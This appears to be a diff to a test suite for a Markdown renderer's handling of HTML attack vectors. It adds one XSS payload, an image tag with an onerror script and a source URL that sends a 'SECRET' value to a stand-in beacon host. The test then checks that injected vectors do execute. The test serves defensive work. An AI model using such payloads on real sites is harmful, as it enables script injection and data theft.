@@ -50,7 +50,8 @@ describe("attacks on Markdown", () => {
   });
 
   it("would be seen by this test if they did something", async () => {
-    const live = all.filter((vector) => vector.kind === "html").slice(0, 60);
+    const beacon = { id: "a picture", kind: "html", payload: '<img src="https://beacon.invalid/?d=SECRET" onerror="alert(1)">' } as const;
+    const live = [...all.filter((vector) => vector.kind === "html").slice(0, 60), beacon];
     const { structures, executions } = await withPage("/open", (page) => page.evaluate((list) => globalThis.markdown.raw(list), live));
     expect(structures).to.be.greaterThan(live.length / 3);
     expect(executions).to.be.greaterThan(0);
